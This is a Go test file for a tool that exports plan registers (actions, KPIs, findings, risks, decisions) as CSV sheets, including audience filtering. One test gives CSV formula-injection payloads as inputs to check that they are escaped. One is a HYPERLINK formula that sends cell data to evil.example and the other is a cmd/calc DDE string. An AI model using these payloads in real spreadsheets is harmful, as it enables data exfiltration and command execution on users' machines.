package render

import (
	"bytes"
	"slices"
	"strings"
	"testing"

	"github.com/plan-tool/plan/plan"
)

// bradfordRegister is the register of the Bradford example on asOf, with
// two completion dates as history would give them.
func bradfordRegister(t *testing.T, audience plan.Audience) plan.Register {
	t.Helper()
	p := loadExample(t, "bradford").ForAudience(audience)
	return p.Register(asOf, audience, map[string]plan.Date{"P1.1": plan.NewDate(2026, 1, 30), "P8.2": plan.NewDate(2025, 12, 19)})
}

func TestRegisterCSV(t *testing.T) {
	r := bradfordRegister(t, plan.ForInternal)
	for _, name := range []string{"actions", "kpis", "findings"} {
		t.Run(name, func(t *testing.T) {
			s, ok := RegisterSheet(r, name)
			if !ok {
				t.Fatalf("no sheet %s", name)
			}
			var buf bytes.Buffer
			if err := RegisterCSV(&buf, s); err != nil {
				t.Fatal(err)
			}
			golden(t, "register-"+name+".csv.golden", buf.Bytes())
		})
	}
	pub := bradfordRegister(t, plan.ForPublic)
	s, _ := RegisterSheet(pub, "Actions")
	var buf bytes.Buffer
	if err := RegisterCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	golden(t, "register-actions-public.csv.golden", buf.Bytes())
	if strings.Contains(buf.String(), "Visibility") || strings.Contains(buf.String(), "P7.10") {
		t.Error("the public actions have a Visibility column or the internal action P7.10")
	}
}

func TestRegisterSheetsOrder(t *testing.T) {
	var names []string
	for _, s := range RegisterSheets(bradfordRegister(t, plan.ForInternal)) {
		names = append(names, s.Name)
	}
	if got := strings.Join(names, ","); got != "Summary,Actions,KPIs,Findings,Glossary" {
		t.Errorf("sheets %s", got)
	}
	if _, ok := RegisterSheet(plan.Register{}, "glossaries"); ok {
		t.Error("found a sheet that is not there")
	}
}

// TestRegisterCSVFormulaSafe: text a spreadsheet would run is written
// with a ' before it; numbers, negative ones included, as they are.
func TestRegisterCSVFormulaSafe(t *testing.T) {
	r := plan.Register{Audience: plan.ForInternal, KPIs: []plan.RegisterActual{{
		ID: "K1", Title: `=HYPERLINK("http://evil.example/?"&A1,"click")`, Unit: "+cmd|' /C calc'!A0", OwnerName: "@owner",
		Date: plan.NewDate(2026, 3, 31), Value: -2.5, Target: -1, Tolerance: 0.5,
		Rating: plan.Rating{RAG: plan.Red}, Direction: plan.Worsening,
	}}}
	s, _ := RegisterSheet(r, "kpis")
	var buf bytes.Buffer
	if err := RegisterCSV(&buf, s); err != nil {
		t.Fatal(err)
	}
	want := "Ref,KPI,Priority ref,Owner ref,Owner,Unit,Better,Frequency,Date,Value,Target,Tolerance,Rating,Direction,Visibility\n" +
		`K1,"'=HYPERLINK(""http://evil.example/?""&A1,""click"")",,,'@owner,'+cmd|' /C calc'!A0,,,2026-03-31,-2.5,-1,0.5,Red,worsening,` + "\n"
	if buf.String() != want {
		t.Errorf("got\n%s\nwant\n%s", buf.String(), want)
	}
}

// TestRegisterIssue20: the Bury example has confidence, KPI baselines,
// trajectories and findings, risks and decisions: the Actions and KPIs
// tables gain their columns, and the Risks and Decisions tables are there.
func TestRegisterIssue20(t *testing.T) {
	r := loadExample(t, "bury").Register(asOf, plan.ForInternal, nil)
	for _, name := range CSVSheets {
		t.Run(name, func(t *testing.T) {
			s, ok := RegisterSheet(r, name)
			if !ok {
				t.Fatalf("no sheet %s", name)
			}
			var buf bytes.Buffer
			if err := RegisterCSV(&buf, s); err != nil {
				t.Fatal(err)
			}
			golden(t, "register-bury-"+name+".csv.golden", buf.Bytes())
		})
	}
	var names []string
	for _, s := range RegisterSheets(r) {
		names = append(names, s.Name)
	}
	if got := strings.Join(names, ","); got != "Summary,Actions,KPIs,Findings,Risks,Decisions,Glossary" {
		t.Errorf("sheets %s", got)
	}
	// A plan without them has no such sheets, but --sheet risks still
	// writes the headings.
	for _, s := range RegisterSheets(bradfordRegister(t, plan.ForInternal)) {
		if s.Name == RisksSheet || s.Name == DecisionsSheet {
			t.Errorf("Bradford, without risks or decisions, has a %s sheet", s.Name)
		}
	}
	for _, name := range []string{"risks", "decisions"} {
		s, ok := RegisterSheet(bradfordRegister(t, plan.ForInternal), name)
		if !ok || len(s.Rows) != 0 || len(s.Columns) == 0 {
			t.Errorf("Bradford's %s table: %v, %d rows, %d columns; want the headings alone", name, ok, len(s.Rows), len(s.Columns))
		}
	}
}

// TestRegisterIssue20Public: for the public, a KPI lists only the
// findings the public is shown, and a decision only the actions.
func TestRegisterIssue20Public(t *testing.T) {
	p := loadExample(t, "bury")
	p.Priorities[0].Decisions = append(p.Priorities[0].Decisions, plan.Decision{Date: plan.NewDate(2026, 8, 1), Body: "Board", Text: "Agreed", Actions: []string{p.Priorities[0].Actions[0].ID, "HIDDEN"}})
	p.Priorities[0].Decisions = append(p.Priorities[0].Decisions, plan.Decision{Date: plan.NewDate(2026, 12, 1), Body: "Board", Text: "Later"})
	hidden := "OF-5" // addressed by the workforce KPIs
	for _, f := range p.Findings {
		if f.ID == hidden {
			f.Visibility = plan.Internal
		}
	}
	r := p.ForAudience(plan.ForPublic).Register(asOf, plan.ForPublic, nil)
	shown := 0
	for _, k := range r.KPIs {
		if slices.Contains(k.Findings, hidden) {
			t.Errorf("public KPI %s lists the internal finding %s", k.ID, hidden)
		}
		if slices.Contains(k.Findings, "LGA-2") {
			shown++
		}
	}
	if shown == 0 {
		t.Error("no public KPI lists the public finding LGA-2")
	}
	var texts []string
	for _, d := range r.Decisions {
		texts = append(texts, d.Text+":"+strings.Join(d.Actions, ","))
	}
	if got, want := strings.Join(texts, "|"), "Add a communication strategy so children, families and partners understand the priorities:LM1.6|Agreed:"+p.Priorities[0].Actions[0].ID; got != want {
		t.Errorf("public decisions %q, want %q (none after the as-of date, no unknown actions)", got, want)
	}
}
